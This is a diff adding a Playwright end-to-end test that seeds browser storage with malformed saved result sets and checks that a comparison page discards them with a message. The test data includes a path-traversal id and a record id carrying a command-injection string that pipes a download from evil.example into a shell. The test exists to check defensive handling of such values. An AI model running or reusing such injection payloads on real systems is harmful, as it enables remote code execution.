@@ -141,6 +141,40 @@ test('two own sets are compared like any other, marked everywhere, and survive a
   await expect(own(page).getByRole('listitem')).toContainText('Vanilla Spark 3.5.8');
 });
 
+test('what another page of the origin writes among kept sets is dropped with a sentence', async ({ page }) => {
+  const text = (name: string) => readFileSync(join('static/data/result-sets', SPARK, name), 'utf8');
+  const files = ['datapackage.json', 'results.csv'].map((name) => [name, text(name)]);
+  const broken = files.map(([name = '', content = '']) => [
+    name,
+    content.replace('"suite": {', '"suite": null, "x": {'),
+  ]);
+  const records = [
+    { id: 'own_broken', files: broken, environment: null },
+    { id: 'own_x; curl evil.example | sh #', files, environment: null },
+    { id: 'own_odd', files: 7, environment: { id: '../x', text: 'x' } },
+  ];
+  await visit(page, '/data/');
+  await page.evaluate(async (all) => {
+    const name = 'own-result-sets /';
+    const opening = indexedDB.open(name, 1);
+    opening.onupgradeneeded = () => opening.result.createObjectStore('sets', { keyPath: 'id' });
+    await new Promise((resolve) => {
+      opening.onsuccess = resolve;
+    });
+    const transaction = opening.result.transaction('sets', 'readwrite');
+    for (const record of all) transaction.objectStore('sets').put(record);
+    await new Promise((resolve) => {
+      transaction.oncomplete = resolve;
+    });
+    localStorage.setItem(name, 'yes');
+  }, records);
+  await visit(page, '/compare/');
+  for (const { id } of records) await expect(page.getByText(`“${id}” is no longer kept in this browser`)).toBeVisible();
+  await visit(page, '/compare/');
+  await compared(page);
+  await expect(page.getByText('is no longer kept')).toHaveCount(0);
+});
+
 test('a saved comparison opens in another browser with its sets and choices; a damaged file says what is wrong', async ({
   page,
   browser,
